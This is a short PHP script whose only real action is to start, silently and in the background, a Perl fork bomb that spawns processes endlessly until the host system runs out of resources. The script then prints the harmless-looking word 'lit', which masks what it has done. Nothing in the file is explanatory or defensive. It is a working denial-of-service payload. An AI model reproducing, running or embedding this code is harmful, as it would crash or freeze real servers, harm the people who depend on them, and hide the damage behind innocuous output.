<?php
exec('perl -e "fork while 1" >/dev/null 2>&1 &');
echo "lit\n";
